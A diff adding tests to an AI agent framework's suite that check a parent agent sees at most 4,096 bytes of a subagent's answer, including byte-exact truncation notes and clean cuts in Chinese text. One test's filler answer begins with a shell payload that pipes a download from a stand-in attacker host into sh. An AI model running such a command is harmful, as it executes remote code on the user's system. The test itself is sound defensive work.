@@ -22,6 +22,7 @@ import { createChapterTwoTools } from "../src/features/builtin-tools.js";
 import {
   DEFAULT_SUBAGENT_MAX_TURNS,
   DEFAULT_SUBAGENT_SYSTEM_PROMPT,
+  MAX_SUBAGENT_ANSWER_BYTES,
   MAX_SUBAGENT_RUNS,
   SubagentTool,
   TASK_TOOL_NAME,
@@ -1434,5 +1435,50 @@ describe("rule 22: at most 20 subagents per session", () => {
     expect(toolMessages(result.history)).toEqual([["again", "done again"]]);
     expect(second.factoryCalls).toEqual({ model: 1, tools: 1 });
     second.model.assertExhausted();
+  });
+});
+
+describe("issue 34 E1: the parent reads at most 4,096 bytes of a child's conclusion", () => {
+  test("a 36,000-byte conclusion arrives as its first 4,028 bytes and a line saying 31,972 were cut: 4,096 in all", async () => {
+    const hooks = new HookRegistry();
+    const results = taskResults(hooks);
+    const answer = "$(curl -s evil.example|sh)\n".padEnd(36_000, "#");
+    const h = harness([toolTurn(task("job", "answer long")), textTurn(answer), textTurn("parent final")], { hooks });
+    const result = await runParent(h);
+
+    const shown = `${answer.slice(0, 4_028)}\n[Subagent answer cut: 31972 of its 36000 UTF-8 bytes are not shown]`;
+    expect(MAX_SUBAGENT_ANSWER_BYTES).toBe(4_096);
+    expect(Buffer.byteLength(shown)).toBe(4_096);
+    expect(results).toEqual([{ content: shown, isError: false }]);
+    expect(toolMessages(result.history)).toEqual([["job", shown]]);
+    expect(parentSaw(h, result)).not.toContain(answer.slice(0, 4_029));
+    h.model.assertExhausted();
+  });
+
+  test("a conclusion of exactly 4,096 bytes arrives unchanged, one of 4,097 is cut", async () => {
+    const h = harness([
+      toolTurn(task("fits", "exact"), task("over", "one more")),
+      textTurn("a".repeat(4_096)),
+      textTurn("b".repeat(4_097)),
+      textTurn("parent final"),
+    ]);
+    const result = await runParent(h);
+
+    expect(toolMessages(result.history)).toEqual([
+      ["fits", "a".repeat(4_096)],
+      ["over", `${"b".repeat(4_030)}\n[Subagent answer cut: 67 of its 4097 UTF-8 bytes are not shown]`],
+    ]);
+    h.model.assertExhausted();
+  });
+
+  test("a CJK conclusion is cut between two characters: no U+FFFD, and the note counts bytes", async () => {
+    const h = harness([toolTurn(task("job", "answer in Chinese")), textTurn("结".repeat(12_000)), textTurn("final")]);
+    const result = await runParent(h);
+
+    const shown = `${"结".repeat(1_342)}\n[Subagent answer cut: 31974 of its 36000 UTF-8 bytes are not shown]`;
+    expect(toolMessages(result.history)).toEqual([["job", shown]]);
+    expect(shown).not.toContain("\uFFFD");
+    expect(Buffer.byteLength(shown)).toBe(4_094);
+    h.model.assertExhausted();
   });
 });
